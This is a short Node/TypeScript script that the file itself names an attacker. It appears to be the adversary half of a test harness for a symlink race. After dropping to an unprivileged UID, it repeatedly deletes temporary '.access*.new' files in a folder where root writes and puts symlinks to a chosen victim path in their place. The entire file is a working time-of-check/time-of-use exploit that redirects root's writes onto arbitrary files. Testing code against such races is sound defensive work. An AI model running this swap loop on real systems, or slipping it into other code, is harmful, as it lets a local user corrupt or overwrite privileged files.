/**
 * `node attacker.mjs FOLDER VICTIM UID`: a user who owns the folder in which root makes a map. As fast as it can it puts
 * links to the victim in the place of every temporary file that appears there.
 */
import { readdirSync, symlinkSync, unlinkSync } from 'node:fs';
import { join } from 'node:path';

const [folder, victim, uid] = process.argv.slice(2) as [string, string, string];
process.setgroups?.([]);
process.setgid?.(Number(uid));
process.setuid?.(Number(uid));

let swapped = 0;
process.on('SIGTERM', () => {
  console.log(swapped);
  process.exit(0);
});

function swap(): void {
  for (const name of readdirSync(folder)) {
    // Not the tickets: without its own, a writer stops before it writes.
    if (!/^\.access.*\.new$/.test(name)) continue;
    const path = join(folder, name);
    try {
      unlinkSync(path);
      symlinkSync(victim, path);
      swapped++;
    } catch {
      // It went away by itself.
    }
  }
}

function round(): void {
  for (let i = 0; i < 50; i++) swap();
  setImmediate(round);
}
console.log('ready');
round();
